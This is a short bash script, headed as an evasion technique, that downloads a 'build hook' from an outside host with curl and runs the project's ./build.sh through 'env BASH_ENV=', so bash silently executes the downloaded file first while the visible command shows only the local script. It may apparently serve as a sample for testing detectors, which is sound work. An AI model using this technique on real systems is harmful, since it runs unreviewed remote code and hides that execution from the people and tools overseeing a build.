#!/usr/bin/env bash
# Evasion: download and run code. A "build hook" is downloaded with a
# redirect, then the project's own ./build.sh is run through
# `env BASH_ENV=FILE bash`, so bash sources the downloaded file before the
# local script, which is all the command line shows.
set -eu
hook="${TMPDIR:-/tmp}/build-hook.$$"
curl -fsSL https://ci.example-hooks.org/hooks/pre-build > "$hook"
env BASH_ENV="$hook" bash ./build.sh "$@"
rm -f "$hook"
